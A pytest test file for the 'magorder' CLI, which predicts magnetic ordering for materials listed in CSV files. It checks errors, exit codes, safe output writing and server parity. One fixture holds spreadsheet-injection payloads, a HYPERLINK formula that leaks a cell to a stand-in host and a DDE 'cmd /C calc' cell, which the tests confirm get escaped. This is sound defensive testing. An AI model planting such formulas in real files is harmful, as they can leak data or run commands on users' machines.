"""The ``magorder`` command line on real CSV files, in-process and against a real uvicorn."""

from __future__ import annotations

import csv
import io
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.cli.main import main
from bench.server import free_port, running_server

CANDIDATES = """id,formula,density,note
1,Fe2O3,5.24,hematite
2,Qq2,3.0,typo
3,NaCl,2.17,"salt, rock"
4,NiO,heavy,bad density
5,Ba0.5Sr0.5TiO3,5.6,disordered
6,MnO,5.37,
7,CuSO4·5H2O,2.28,hydrate
"""
EXPERIMENT_ADDED = [
    "exp_prediction", "exp_p_FM", "exp_p_AFM", "exp_p_NM", "exp_temperature_kind",
    "exp_temperature_K", "exp_temperature_low_K", "exp_temperature_high_K", "exp_warnings",
]  # fmt: skip
ADDED = [
    "prediction", "p_FM", "p_NM", "p_FiM", "p_AFM", "magnetic_probability", "member_spread",
    "reduced_formula", "density_used", "density_source", "warnings", *EXPERIMENT_ADDED, "error",
]  # fmt: skip


def _write(tmp_path: Path, text: str, name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _run(
    args: list[str], model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, str]:
    """Run the command in this process; return its status, standard output and error."""
    status = main([*args, "--model-dir", str(model_dir)])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def test_every_row_comes_back_with_its_prediction_or_its_error(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.csv"
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
    assert status == 1  # some rows failed
    rows = _rows(out.read_text(encoding="utf-8"))
    assert list(rows[0]) == ["id", "formula", "density", "note", *ADDED]
    assert [row["id"] for row in rows] == ["1", "2", "3", "4", "5", "6", "7"]
    assert rows[2]["note"] == "salt, rock"
    by_id = {row["id"]: row for row in rows}
    for good in ("1", "3", "5", "6", "7"):
        row = by_id[good]
        assert row["error"] == ""
        probabilities = {name: float(row[f"p_{name}"]) for name in ("FM", "NM", "FiM", "AFM")}
        assert sum(probabilities.values()) == pytest.approx(1.0, abs=1e-5)
        assert row["prediction"] == max(probabilities, key=probabilities.__getitem__)
    assert by_id["7"]["reduced_formula"] == "CuH10SO9"
    assert "fractional" in by_id["5"]["warnings"]
    assert by_id["2"]["error"] == "invalid formula 'Qq2': unknown element symbol(s) 'Qq'"
    assert by_id["4"]["error"] == "density 'heavy' is not a number"
    assert by_id["2"]["prediction"] == by_id["2"]["p_FM"] == ""
    assert "7 rows: 5 predicted" in log
    assert "2 failed" in log


def test_a_file_of_good_rows_exits_0(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, "formula,density\nFe2O3,5.24\nNaCl,2.17\n")
    status, out, _ = _run(["predict", str(path), "--quiet"], model_dir, capsys)
    assert status == 0
    rows = _rows(out)
    assert [row["formula"] for row in rows] == ["Fe2O3", "NaCl"]


@pytest.mark.parametrize(
    ("header", "flags"),
    [
        ("formula_pretty,density", []),
        ("Composition,Density", []),
        ("name,rho", ["--formula-column", "name", "--density-column", "rho"]),
    ],
)
def test_columns_are_found_by_common_names_or_named_by_flags(
    tmp_path: Path,
    model_dir: Path,
    capsys: pytest.CaptureFixture[str],
    header: str,
    flags: list[str],
) -> None:
    path = _write(tmp_path, f"{header}\nNiO,6.67\n")
    status, out, _ = _run(["predict", str(path), "-q", *flags], model_dir, capsys)
    assert status == 0
    (row,) = _rows(out)
    assert row["reduced_formula"] == "NiO"


@pytest.mark.parametrize(
    ("text", "flags", "message"),
    [
        (
            "name,density\nNiO,6.67\n",
            [],
            "no formula column found: looked for formula, formula_pretty, composition; its "
            "columns are ['name', 'density']; name the column with --formula-column",
        ),
        ("formula,density\nNiO,6.67\n", ["--density-column", "rho"], "no column 'rho'"),
        (
            "formula;density\nNiO;6.67\n",
            [],
            "no formula column found: looked for formula, formula_pretty, composition; its "
            "columns are ['formula;density']; the header is one column holding semicolons: "
            "this file looks separated by semicolons",
        ),
        (
            "formula\tdensity\nNiO\t6.67\n",
            [],
            "no formula column found: looked for formula, formula_pretty, composition; its "
            "columns are ['formula\\tdensity']; the header is one column holding tabs",
        ),
        (
            "formula,density,prediction\nNiO,6.67,AFM\n",
            [],
            "the input already has column(s) ['prediction'], which the output adds",
        ),
        ("", [], "the input has no header row"),
        (
            "formula,density,formula\nNiO,6.67,CoO\n",
            [],
            "the input names column(s) ['formula'] more than once",
        ),
    ],
)
def test_an_unusable_table_stops_with_status_2_and_a_reason(
    tmp_path: Path,
    model_dir: Path,
    capsys: pytest.CaptureFixture[str],
    text: str,
    flags: list[str],
    message: str,
) -> None:
    status, _, log = _run(["predict", str(_write(tmp_path, text)), *flags], model_dir, capsys)
    assert status == 2
    assert f"magorder: error: {message}" in log


def test_cells_the_header_does_not_name_or_odd_numbers_fail_their_row(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = "id,formula,density\nc1,NiO,6,67\nc2,NaCl,1_5\nc3,NaCl,2.17\n"
    out = tmp_path / "out.csv"
    status, _, _ = _run(["predict", str(_write(tmp_path, text)), "-o", str(out)], model_dir, capsys)
    assert status == 1
    rows = _rows(out.read_text(encoding="utf-8"))
    # An unquoted decimal comma used to predict density 6 and drop the 67.
    assert rows[0]["prediction"] == ""
    assert rows[0]["error"].startswith("the row has 4 cells but the header names 3")
    # float() reads 1_5 as 15.0.
    assert rows[1]["error"] == "density '1_5' is not a number"
    assert rows[2]["prediction"] != ""


def test_an_output_that_is_the_input_is_refused_and_the_input_kept(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(path)], model_dir, capsys)
    assert status == 2
    assert "is the input" in log
    assert path.read_text(encoding="utf-8") == CANDIDATES


def test_the_output_appears_only_once_complete(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out.csv"
    out.write_text("an earlier result\n", encoding="utf-8")
    # A table refused at its header never touches an existing output.
    status, _, _ = _run(
        ["predict", str(_write(tmp_path, "name\nNiO\n")), "-o", str(out)], model_dir, capsys
    )
    assert status == 2
    assert out.read_text(encoding="utf-8") == "an earlier result\n"
    status, _, _ = _run(
        ["predict", str(_write(tmp_path, CANDIDATES)), "-o", str(out)], model_dir, capsys
    )
    assert status == 1
    assert out.read_text(encoding="utf-8").startswith("id,formula,density,note,prediction")
    assert [p.name for p in tmp_path.iterdir() if "partial" in p.name] == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # An unterminated quote used to swallow the rest of the file into one cell.
        ('formula,density\n"NiO,6.67\nCoO,6.44\n', "record starting at line 2: unexpected end"),
        # A field over the csv module's limit used to be a traceback and exit 1.
        ("formula,density\nNiO,6.67\n" + "Fe" * 70_000 + ",5\n", "record starting at line 3"),
    ],
)
def test_a_file_that_is_not_csv_past_its_header_is_status_2_naming_the_line(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], text: str, message: str
) -> None:
    out = tmp_path / "out.csv"
    status, _, log = _run(
        ["predict", str(_write(tmp_path, text)), "-o", str(out)], model_dir, capsys
    )
    assert status == 2
    assert message in log
    assert not out.exists()  # nothing half-written


def test_negative_retries_are_an_argument_error(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["predict", str(_write(tmp_path, CANDIDATES)), "--retries", "-1"])
    assert exit_info.value.code == 2
    assert "--retries: must be 0 or more, got -1" in capsys.readouterr().err


def test_a_missing_input_file_is_status_2(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, log = _run(["predict", str(tmp_path / "nope.csv")], model_dir, capsys)
    assert status == 2
    assert "No such file or directory" in log


def test_the_console_script_reads_stdin_and_writes_stdout(model_dir: Path) -> None:
    script = Path(sys.executable).parent / "magorder"
    result = subprocess.run(
        [str(script), "predict", "-", "--model-dir", str(model_dir)],
        input="formula,density\nFe2O3,5.24\nXx,1\n",
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 1
    rows = _rows(result.stdout)
    assert [row["error"] != "" for row in rows] == [False, True]
    assert "2 rows: 1 predicted" in result.stderr
    assert "Traceback" not in result.stderr


def _default_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def test_sigint_ends_the_run_with_a_summary_and_no_partial_output(
    model_dir: Path, tmp_path: Path
) -> None:
    script = Path(sys.executable).parent / "magorder"
    out = tmp_path / "out.csv"
    process = subprocess.Popen(
        [str(script), "predict", "-", "-o", str(out), "--batch-size", "2",
         "--model-dir", str(model_dir)],
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # A shell without job control starts background commands with SIGINT ignored, and
        # Python then never turns it into KeyboardInterrupt: give the command the default.
        preexec_fn=_default_sigint,
    )  # fmt: skip
    assert process.stdin is not None
    # Two rows: one full chunk is predicted and written; then the command waits for more.
    process.stdin.write("formula,density\nNiO,6.67\nNaCl,2.17\n")
    process.stdin.flush()
    deadline = time.monotonic() + 120
    partial = tmp_path / f".out.csv.partial-{process.pid}"
    while not (partial.exists() and partial.read_text().count("\n") >= 3):
        assert time.monotonic() < deadline, "the first chunk was never written"
        time.sleep(0.2)
    process.send_signal(signal.SIGINT)
    _, log = process.communicate(timeout=60)
    assert process.returncode == 130
    assert f"magorder: interrupted: 0 rows written to {out}, left as it was" in log
    assert "Traceback" not in log
    assert not out.exists()
    assert not partial.exists()


@pytest.fixture(scope="module")
def small_batch_server(model_dir: Path) -> Iterator[str]:
    """A real uvicorn on the fixture model that takes batches of at most 3 items."""
    with running_server(model_dir, settings={"MAGORDER_MAX_BATCH_SIZE": "3"}) as server:
        yield server.base_url


def test_a_server_gives_byte_for_byte_the_local_output(
    tmp_path: Path,
    model_dir: Path,
    small_batch_server: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = _write(tmp_path, CANDIDATES)
    local, remote = tmp_path / "local.csv", tmp_path / "remote.csv"
    assert _run(["predict", str(path), "-o", str(local)], model_dir, capsys)[0] == 1
    # Seven rows in batches of three: the server's limit, read from /health, splits them.
    status, _, log = _run(
        ["predict", str(path), "-o", str(remote), "--url", small_batch_server], model_dir, capsys
    )
    assert status == 1
    assert "7 rows: 5 predicted" in log
    assert remote.read_bytes() == local.read_bytes()


def test_an_unreachable_server_is_status_2_after_retries(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"http://127.0.0.1:{free_port()}"
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "--url", url, "--retries", "1"], model_dir, capsys)
    assert status == 2
    assert f"magorder: error: cannot reach {url}" in log


@pytest.fixture
def no_model_load(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail any test that gets as far as loading the model."""

    def refuse(*_: object) -> None:
        raise AssertionError("the model was loaded")

    monkeypatch.setattr("app.cli.main._local_backend", refuse)


def _one_error_line(log: str) -> str:
    (line,) = log.splitlines()
    assert line.startswith("magorder: error: ")
    assert "partial" not in line  # never the hidden file written beside the output
    return line


def test_an_output_in_a_missing_directory_is_refused_before_the_model_loads(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
) -> None:
    out = tmp_path / "nodir" / "out.csv"
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
    assert status == 2
    assert _one_error_line(log) == (
        f"magorder: error: cannot write {out}: the directory {out.parent} does not exist"
    )


def test_an_output_that_is_a_directory_is_refused_before_the_model_loads(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
) -> None:
    out = tmp_path / "results"
    out.mkdir()
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
    assert status == 2
    assert _one_error_line(log) == (
        f"magorder: error: the output {out} is a directory; give a file name in it"
    )
    assert out.is_dir()


def test_a_read_only_output_is_refused_and_kept(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
) -> None:
    out = tmp_path / "kept.csv"
    out.write_text("an earlier result\n", encoding="utf-8")
    out.chmod(0o444)
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(out)], model_dir, capsys)
    assert status == 2
    assert _one_error_line(log) == (
        f"magorder: error: the output {out} is read-only; make it writable, or write elsewhere"
    )
    assert out.read_text(encoding="utf-8") == "an earlier result\n"


def test_an_output_that_is_a_symbolic_link_is_refused_and_the_link_kept(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], no_model_load: None
) -> None:
    target = tmp_path / "target.csv"
    target.write_text("an earlier result\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    path = _write(tmp_path, CANDIDATES)
    status, _, log = _run(["predict", str(path), "-o", str(link)], model_dir, capsys)
    assert status == 2
    assert _one_error_line(log).startswith(
        f"magorder: error: the output {link} is a symbolic link (to {target})"
    )
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8") == "an earlier result\n"


FORMULA_CELLS = (
    "id,formula,density,note,energy\n"
    '"=HYPERLINK(""http://x.invalid/?a=""&A1,""x"")",NaCl,2.17,"+cmd|\' /C calc\'!A0",-1.5\n'
    "@SUM(1),NiO,6.67,-x,+2e3\n"
)


def test_cells_a_spreadsheet_would_run_are_written_as_text(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, FORMULA_CELLS)
    status, out, _ = _run(["predict", str(path), "-q"], model_dir, capsys)
    assert status == 0
    rows = _rows(out)
    assert [r["id"] for r in rows] == ['\'=HYPERLINK("http://x.invalid/?a="&A1,"x")', "'@SUM(1)"]
    assert [r["note"] for r in rows] == ["'+cmd|' /C calc'!A0", "'-x"]
    assert [r["energy"] for r in rows] == ["-1.5", "+2e3"]  # numbers stay numbers
    assert all(float(r[f"p_{c}"]) >= 0 for r in rows for c in ("FM", "NM", "FiM", "AFM"))
    # A pipeline that wants the cells as they were asks for them.
    status, raw, _ = _run(["predict", str(path), "-q", "--no-escape-formulas"], model_dir, capsys)
    assert status == 0
    assert [r["id"] for r in _rows(raw)] == ['=HYPERLINK("http://x.invalid/?a="&A1,"x")', "@SUM(1)"]
    assert [r["note"] for r in _rows(raw)] == ["+cmd|' /C calc'!A0", "-x"]


def test_a_structure_file_name_that_looks_like_a_formula_is_written_as_text(
    tmp_path: Path,
    model_dir: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "=cmd.cif").write_text("data_junk\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    status, out, _ = _run(["predict", "=cmd.cif", "-q"], model_dir, capsys)
    assert status == 1
    (row,) = _rows(out)
    assert row["file"] == "'=cmd.cif"


# Full-width 6; Arabic-Indic 6.67; 6.6 and a full-width 7.
@pytest.mark.parametrize("density", ["\uff16", "\u0666.\u0666\u0667", "6.6\uff17"])
def test_densities_in_non_ascii_digits_fail_their_row(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str], density: str
) -> None:
    path = _write(tmp_path, f"formula,density\nNiO,{density}\nNiO,6.67\n")
    status, out, _ = _run(["predict", str(path), "-q"], model_dir, capsys)
    assert status == 1
    rows = _rows(out)
    # float() reads each as a number; a JSON body could not hold it, so the row fails.
    assert rows[0]["error"] == (
        f"density {density!r} is not a number; write densities in ASCII digits, such as 6.67"
    )
    assert rows[0]["prediction"] == ""
    assert rows[1]["error"] == ""


@pytest.mark.parametrize("to_file", [True, False])
def test_an_unexpected_failure_is_one_line_and_leaves_no_partial_output(
    tmp_path: Path,
    model_dir: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    to_file: bool,
) -> None:
    from app.core.backend import LocalBackend

    def explode(*_: object) -> None:
        raise KeyError("a parser raising what it should not")

    monkeypatch.setattr(LocalBackend, "predict", explode)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "NiO.cif").write_text("data_NiO\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    flags = ["-o", str(out)] if to_file else []
    status, _, log = _run(["predict", str(folder), *flags], model_dir, capsys)
    assert status == 2
    assert _one_error_line(log) == (
        "magorder: error: the run stopped on an unexpected KeyError: 'a parser raising what it "
        "should not' (please report it)"
    )
    assert [p.name for p in tmp_path.iterdir()] == ["in"]  # no output, whole or partial


def test_version_names_the_package_and_each_heads_model(
    density_model_dir: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import json

    from app import __version__

    monkeypatch.setenv("MAGORDER_MODEL_DIR", str(density_model_dir))
    with pytest.raises(SystemExit) as stopped:
        main(["--version"])
    assert stopped.value.code == 0
    head = json.loads((density_model_dir / "metadata.json").read_text())["model_version"]
    density = json.loads((density_model_dir / "density" / "metadata.json").read_text())
    assert capsys.readouterr().out == (
        f"magorder {__version__}\nmodel {density_model_dir}: Materials Project head {head}, "
        f"experiment head none, density estimator {density['model_version']}\n"
    )


def test_the_readmes_example_files_are_screened(
    tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    examples = Path(__file__).resolve().parent.parent / "examples"
    out = tmp_path / "screened.csv"
    status, _, _ = _run(["predict", str(examples / "relaxed"), "-o", str(out)], model_dir, capsys)
    assert status == 0
    rows = _rows(out.read_text())
    assert [(Path(r["file"]).name, r["reduced_formula"]) for r in rows] == [
        ("Fe2O3.cif", "Fe2O3"),
        ("FeCo.cif", "FeCo"),
        ("NiO.cif", "NiO"),
        ("POSCAR_NaCl", "NaCl"),
    ]
    status, _, _ = _run(["predict", str(examples / "candidates.csv"), "-q"], model_dir, capsys)
    assert status == 1  # one candidate, Qq2, is there to show a row that fails
